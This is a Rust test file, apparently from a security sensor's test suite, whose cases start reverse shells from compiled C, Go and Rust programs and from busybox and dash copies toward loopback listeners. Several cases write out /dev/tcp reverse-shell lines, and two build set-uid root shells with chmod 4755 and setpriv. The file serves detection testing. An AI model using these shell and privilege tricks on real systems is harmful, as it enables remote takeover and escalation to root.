//! Compiled attackers: no interpreter, no shell redirection, nothing in argv that tells.

use std::{fs, path::Path};

use anyhow::{Result, ensure};
use sensor_tests::{
    lab::{Lab, REVERSE},
    peer::{Listener, V4, V6},
    suite::Case,
};

/// Connects the compiled `connect.c` with `family` and `address`, which reach the peer at `listener`.
fn connect(lab: &Lab<'_>, flags: &[&str], listener: &Listener, family: &str, address: &str) -> Result<()> {
    let port = listener.port()?.to_string();
    let program = lab.programs.c("connect.c", flags)?;
    lab.spawn(
        lab.command(program)?
            .args(["connect", family, address, &port, "/bin/sh"]),
    )?;
    lab.taken(listener.accept()?, REVERSE)
}

pub fn cases() -> Vec<Case> {
    vec![
        Case::new("native::c", &["gcc"], |lab| {
            connect(lab, &[], &Listener::tcp(V4)?, "4", "127.0.0.1")
        }),
        Case::new("native::c_static", &["gcc"], |lab| {
            connect(lab, &["-static"], &Listener::tcp(V4)?, "4", "127.0.0.1")
        }),
        Case::new("native::c_ipv6", &["gcc"], |lab| {
            connect(lab, &[], &Listener::tcp(V6)?, "6", "::1")
        }),
        Case::new("native::c_ipv4_mapped", &["gcc"], |lab| {
            connect(lab, &[], &Listener::tcp(V4)?, "6", "::ffff:127.0.0.1")
        }),
        // Another loopback address than the usual one.
        Case::new("native::c_loopback_network", &["gcc"], |lab| {
            connect(lab, &[], &Listener::tcp([127, 99, 0, 7].into())?, "4", "127.99.0.7")
        }),
        Case::new("native::go", &["go"], |lab| {
            let listener = Listener::tcp(V4)?;
            let peer = format!("127.0.0.1:{}", listener.port()?);
            lab.spawn(
                lab.command(lab.programs.go("connect.go")?)?
                    .args([&peer, "/bin/sh", "-i"]),
            )?;
            lab.taken(listener.accept()?, REVERSE)
        }),
        Case::new("native::io_uring", &["gcc"], |lab| {
            let peer = lab.connected("exec $X $H $P /bin/sh", &lab.programs.c("uring.c", &[])?)?;
            lab.taken(peer, REVERSE)
        }),
        Case::new("native::rust", &[], |lab| {
            let listener = Listener::tcp(V4)?;
            let peer = format!("127.0.0.1:{}", listener.port()?);
            let program = Path::new(env!("CARGO_BIN_EXE_connect-rust"));
            lab.spawn(lab.command(program)?.args([&peer, "/bin/bash", "--norc"]))?;
            lab.taken(listener.accept()?, REVERSE)
        }),
        Case::new("native::static_busybox_as_sh", &["busybox"], |lab| {
            let copy = lab.copy("busybox", "sh")?;
            let peer = lab.connected("exec 5<>/dev/tcp/$H/$P; $X <&5 >&5 2>&5; true", &copy)?;
            lab.taken(peer, REVERSE)
        }),
        // The program that is wired to the peer is set-uid root and started by somebody else.
        Case::new("native::set_uid_attacker", &["gcc", "setpriv"], |lab| {
            let program = lab.path("helper");
            fs::copy(lab.programs.c("connect.c", &[])?, &program)?;
            let script = "chmod 4755 $X && exec setpriv --reuid 65534 --regid 65534 --clear-groups \
                $X connect 4 $H $P /bin/sh";
            let mut peer = lab.connected(script, &program)?;
            let id = peer.id()?;
            ensure!(id.contains("uid=0"), "no root shell: {id}");
            lab.taken(peer, REVERSE)
        }),
        // The shell itself is set-uid: its real user is not root.
        Case::new("native::set_uid_shell", &["dash", "setpriv"], |lab| {
            let copy = lab.copy("dash", "rootsh")?;
            let script = "chmod 4755 $X; exec 5<>/dev/tcp/$H/$P; \
                exec setpriv --reuid 65534 --regid 65534 --clear-groups $X -p <&5 >&5 2>&5";
            let mut peer = lab.connected(script, &copy)?;
            let id = peer.id()?;
            ensure!(
                id.contains("uid=65534") && id.contains("euid=0"),
                "no set-uid shell: {id}"
            );
            lab.taken(peer, REVERSE)
        }),
    ]
}
